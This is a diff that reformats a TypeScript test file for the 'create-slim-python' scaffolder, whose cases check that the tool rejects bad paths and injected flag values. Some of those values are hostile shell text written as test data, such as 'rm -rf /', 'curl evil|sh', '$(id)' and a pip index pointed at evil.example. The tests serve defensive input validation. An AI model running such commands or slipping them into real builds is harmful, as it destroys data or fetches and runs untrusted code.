@@ -38,23 +38,48 @@ const CASES: Case[] = [
   { label: 'DIR ".." (the non-empty parent)', args: ['..', '--yes'], exit: 3, says: /is not empty/ },
   { label: 'DIR "/"', args: ['/', '--yes'], exit: 2, says: /invalid project name/ },
   { label: 'DIR whose parent is a file', args: ['notes.txt/app', '--yes'], exit: 2, says: /a part of the path is a file, not a directory \(ENOTDIR\)/ },
-  { label: 'DIR path longer than PATH_MAX', args: [`${'a/'.repeat(2100)}app`, '--yes'], exit: 2, says: /^create-slim-python: cannot read .{80}\.\.\..{80}: the path is too long \(ENAMETOOLONG\); choose a shorter path\n$/ },
+  {
+    label: 'DIR path longer than PATH_MAX',
+    args: [`${'a/'.repeat(2100)}app`, '--yes'],
+    exit: 2,
+    says: /^create-slim-python: cannot read .{80}\.\.\..{80}: the path is too long \(ENAMETOOLONG\); choose a shorter path\n$/,
+  },
   { label: 'DIR with a component longer than NAME_MAX', args: [`${'a'.repeat(300)}/app`, '--yes'], exit: 2, says: /the path is too long \(ENAMETOOLONG\)/ },
   { label: 'existing non-empty DIR without --force', args: ['proj', '--yes'], exit: 3, says: /proj is not empty/ },
   { label: 'DIR is a symlink', args: ['link-to-proj', '--yes', '--force'], exit: 3, says: /is a symlink; refusing to write through it/ },
-  { label: '--force over a file where the package folder goes', args: ['clash', '--yes', '--force'], exit: 3, says: /clash\/clash exists and is not a folder, but clash\/__init__\.py goes inside it/ },
+  {
+    label: '--force over a file where the package folder goes',
+    args: ['clash', '--yes', '--force'],
+    exit: 3,
+    says: /clash\/clash exists and is not a folder, but clash\/__init__\.py goes inside it/,
+  },
   { label: 'DIR is a file', args: ['plainfile', '--yes'], exit: 3, says: /exists and is not a directory/ },
   // create: flag values that would reach the Dockerfile or the shell
   { label: 'newline in a requirement', args: ['app', '--yes', '-r', 'aiohttp\nRUN rm -rf /'], exit: 2, says: /contains a line break/ },
-  { label: 'shell text in a requirement', args: ['app', '--yes', '-r', 'x; rm -rf /'], exit: 2, says: /^create-slim-python: --requirement #1 \("x; rm -rf \/"\) has per-requirement options \(-rf \/\), which belong in a requirements file: put the line in one and pass --requirements-file FILE\n$/ },
-  { label: 'pip option as a requirement', args: ['app', '--yes', '--requirement=--index-url=http://evil.example'], exit: 2, says: /^create-slim-python: --requirement #1 \("--index-url=http:\/\/evil\.example"\) is a pip option line, not a requirement: put it in a requirements file and pass --requirements-file FILE\n$/ },
+  {
+    label: 'shell text in a requirement',
+    args: ['app', '--yes', '-r', 'x; rm -rf /'],
+    exit: 2,
+    says: /^create-slim-python: --requirement #1 \("x; rm -rf \/"\) has per-requirement options \(-rf \/\), which belong in a requirements file: put the line in one and pass --requirements-file FILE\n$/,
+  },
+  {
+    label: 'pip option as a requirement',
+    args: ['app', '--yes', '--requirement=--index-url=http://evil.example'],
+    exit: 2,
+    says: /^create-slim-python: --requirement #1 \("--index-url=http:\/\/evil\.example"\) is a pip option line, not a requirement: put it in a requirements file and pass --requirements-file FILE\n$/,
+  },
   { label: 'empty requirement', args: ['app', '--yes', '-r', ''], exit: 2, says: /not a PEP 508 requirement/ },
   { label: 'control character in a requirement', args: ['app', '--yes', '-r', 'aiohttp\x1b[31m'], exit: 2, says: /Invalid requirement/ },
   { label: 'shell text in --build-deps', args: ['app', '--yes', '--build-deps', 'gcc;curl evil|sh'], exit: 2, says: /invalid Alpine package name/ },
   { label: 'command substitution in --build-deps', args: ['app', '--yes', '--build-deps', '$(id)'], exit: 2, says: /invalid Alpine package name/ },
   { label: 'backticks in --runtime-libs', args: ['app', '--yes', '--runtime-libs', '`id`'], exit: 2, says: /invalid Alpine package name/ },
   { label: 'uppercase apk name', args: ['app', '--yes', '--runtime-libs', 'LibPQ'], exit: 2, says: /invalid Alpine package name/ },
-  { label: 'removing a package that is not in the list', args: ['app', '--yes', '-r', 'psycopg2', '--build-deps=-libpq-devv'], exit: 2, says: /-libpq-devv removes nothing: .*did you mean -libpq-dev\?/ },
+  {
+    label: 'removing a package that is not in the list',
+    args: ['app', '--yes', '-r', 'psycopg2', '--build-deps=-libpq-devv'],
+    exit: 2,
+    says: /-libpq-devv removes nothing: .*did you mean -libpq-dev\?/,
+  },
   { label: '+gcc,-gcc', args: ['app', '--yes', '--build-deps', '+gcc,-gcc'], exit: 2, says: /both adds and removes gcc/ },
   { label: 'shell text in --python', args: ['app', '--yes', '--python', '3.12; rm -rf /'], exit: 2, says: /unsupported Python runtime/ },
   { label: 'path in --python', args: ['app', '--yes', '--python', '../../etc'], exit: 2, says: /unsupported Python runtime/ },
@@ -63,7 +88,12 @@ const CASES: Case[] = [
   { label: 'port out of range', args: ['app', '--yes', '-r', 'aiohttp', '--port', '99999'], exit: 2, says: /invalid port/ },
   { label: 'port with trailing text', args: ['app', '--yes', '-r', 'aiohttp', '--port', '8080;id'], exit: 2, says: /invalid port/ },
   { label: 'negative port', args: ['app', '--yes', '-r', 'aiohttp', '--port=-1'], exit: 2, says: /invalid port/ },
-  { label: '--port with a cli app', args: ['app', '--yes', '--app', 'cli', '--port', '9000'], exit: 2, says: /^create-slim-python: --port applies only to web apps \(--app web or --app fastapi\)\n$/ },
+  {
+    label: '--port with a cli app',
+    args: ['app', '--yes', '--app', 'cli', '--port', '9000'],
+    exit: 2,
+    says: /^create-slim-python: --port applies only to web apps \(--app web or --app fastapi\)\n$/,
+  },
   { label: 'shell text in --app', args: ['app', '--yes', '--app', 'web;id'], exit: 2, says: /invalid app kind/ },
   { label: 'unknown flag', args: ['app', '--yes', '--evil'], exit: 2, says: /unknown flag --evil/ },
   { label: '--python given twice', args: ['app', '--yes', '--python', '3.12', '--python=3.13'], exit: 2, says: /--python is given 2 times: pass it once/ },
@@ -125,7 +155,12 @@ function snapshot(root: string): Entry[] {
         walk(path);
       } else if (stats.isFile()) {
         // The 10 MiB+ fixture is sparse: hash it by size and mtime instead of reading it.
-        const digest = stats.size > 1_000_000 ? `mtime=${stats.mtimeMs}` : createHash('sha256').update(readFileSync(join(root, path))).digest('hex');
+        const digest =
+          stats.size > 1_000_000
+            ? `mtime=${stats.mtimeMs}`
+            : createHash('sha256')
+                .update(readFileSync(join(root, path)))
+                .digest('hex');
         entries.push(`${head} size=${stats.size} ${digest}`);
       } else entries.push(`${head} special`);
     }
